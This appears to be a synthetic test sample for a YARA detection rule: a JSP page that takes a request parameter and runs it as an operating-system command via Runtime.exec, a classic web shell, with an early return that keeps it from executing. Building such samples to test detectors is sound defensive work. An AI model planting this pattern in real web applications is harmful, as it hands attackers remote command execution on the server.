<%-- Vigil YARA test sample: synthetic; the page returns first. --%>
<%@ page import="java.io.*" %>
<% if (true) { return; } %>
<%
String c = request.getParameter("c");
if (c != null) {
    Process p = Runtime.getRuntime().exec(c);
    p.waitFor();
}
%>
